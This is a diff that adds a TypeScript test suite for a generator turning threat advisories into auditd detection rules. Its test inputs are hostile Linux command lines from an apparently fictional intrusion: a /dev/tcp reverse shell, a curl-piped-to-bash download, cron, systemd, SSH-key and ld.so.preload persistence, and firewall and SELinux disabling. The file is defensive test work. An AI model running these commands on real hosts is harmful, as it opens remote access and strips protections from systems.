@@ -1,0 +1,97 @@
+import { type GeneratedRule, generate } from '@tripline/advisory';
+import { markdownAdvisory, textAdvisory } from './support/documents.js';
+
+const linuxRules = (rules: readonly GeneratedRule[]) => rules.filter(({ platform }) => platform === 'endpoint-auditd');
+const detection = ({ yaml }: GeneratedRule): string => /detection:\n([\s\S]*?)\n\s*condition:/.exec(yaml)?.[1] ?? '';
+
+/** The detections of the Linux rules that these command lines give. */
+async function detectionsOf(...lines: readonly string[]): Promise<string> {
+  const doc = await markdownAdvisory(
+    `# Quiet Marten on build hosts\n\nThe intruders ran:\n\n\`\`\`\n${lines.join('\n')}\n\`\`\`\n`,
+  );
+  return linuxRules(generate(doc).rules).map(detection).join('\n');
+}
+
+describe('what a shell does itself leaves no program start', () => {
+  it('a redirection into a new file is told by the file', async () => {
+    const text = await detectionsOf('echo "*/7 * * * * root /var/tmp/.marten/run" > /etc/cron.d/marten');
+    expect(text).toContain("name: '/etc/cron.d/marten'");
+    expect(text).toContain("nametype: 'CREATE'");
+    expect(text).not.toContain('EXECVE');
+  });
+
+  it.each([
+    ['echo "ssh-rsa AAAAq marten" >> ~/.ssh/authorized_keys', "name|endswith: '/.ssh/authorized_keys'"],
+    ['echo /lib/libmarten.so | tee -a /etc/ld.so.preload', "name: '/etc/ld.so.preload'"],
+  ])('a change of a file that was there before asks for no creation: %s', async (line, expected) => {
+    const text = await detectionsOf(line);
+    expect(text).toContain(expected);
+    expect(text).not.toContain('CREATE');
+  });
+
+  it('a systemd unit written by cat is told by the file and its start by the program', async () => {
+    const text = await detectionsOf(
+      'cat > /etc/systemd/system/marten.service <<EOF',
+      'systemctl daemon-reload',
+      'systemctl enable marten.service',
+    );
+    expect(text).toContain("name: '/etc/systemd/system/marten.service'");
+    expect(text).toContain("a2|contains: 'marten.service'");
+    expect(text).not.toContain('daemon-reload');
+  });
+
+  it('a socket opened by its device name is looked for in what shells are handed', async () => {
+    const text = await detectionsOf('bash -i >& /dev/tcp/203.0.113.80/4444 0>&1');
+    expect(text).toContain("a1: '-c'");
+    expect(text).toContain("a2|contains: '/dev/tcp/'");
+  });
+});
+
+describe('downloads', () => {
+  it('a script piped to a shell is found in the shell’s argument, and the download by its address', async () => {
+    const text = await detectionsOf('curl -fsSL hxxp://198.51.100[.]77/marten.sh | bash');
+    expect(text).toContain("- 'curl'");
+    expect(text).toContain("- '| bash'");
+    expect(text).toContain("- '|bash'");
+    expect(text).toContain("a2|contains: '198.51.100.77/marten.sh'");
+  });
+
+  it('options that every download has make no rule', async () => {
+    expect(await detectionsOf('curl -fsSL -o - http://127.0.0.1/x')).toBe('');
+  });
+
+  it('listing a crontab is no installation of one', async () => {
+    expect(await detectionsOf('crontab -u marten -l', 'crontab -l')).toBe('');
+    expect(await detectionsOf('crontab -l | cat - /tmp/.m/tab | crontab -')).toContain("a0|endswith: 'crontab'");
+  });
+});
+
+describe('commands told by one short argument', () => {
+  it.each([
+    ['chattr +i /var/tmp/.marten/bin', 'chattr', '+i'],
+    ['iptables -F', 'iptables', '-F'],
+    ['setenforce 0', 'setenforce', '0'],
+    ['ufw disable', 'ufw', 'disable'],
+  ])('%s', async (line, tool, argument) => {
+    const text = await detectionsOf(line);
+    expect(text).toContain(`a0|endswith: '${tool}'`);
+    expect(text).toContain(`a1: '${argument}'`);
+    expect(text).not.toContain('.marten');
+  });
+
+  it('are found in prose too', async () => {
+    const doc = await textAdvisory(
+      'On each Linux host the firewall is flushed with iptables -F and SELinux is switched off with setenforce 0. A key is appended to authorized_keys of root.',
+    );
+    const text = linuxRules(generate(doc).rules).map(detection).join('\n');
+    for (const part of ["a1: '-F'", "a1: '0'", "name|endswith: 'authorized_keys'"]) expect(text).toContain(part);
+  });
+});
+
+describe('arguments', () => {
+  it('are counted from the program that has them, not from what prepares it', async () => {
+    const text = await detectionsOf('sudo insmod /opt/marten/marten_hook.ko');
+    expect(text).toContain("a0|endswith: 'insmod'");
+    expect(text).toContain("a1|contains: '/opt/marten/marten_hook.ko'");
+  });
+});
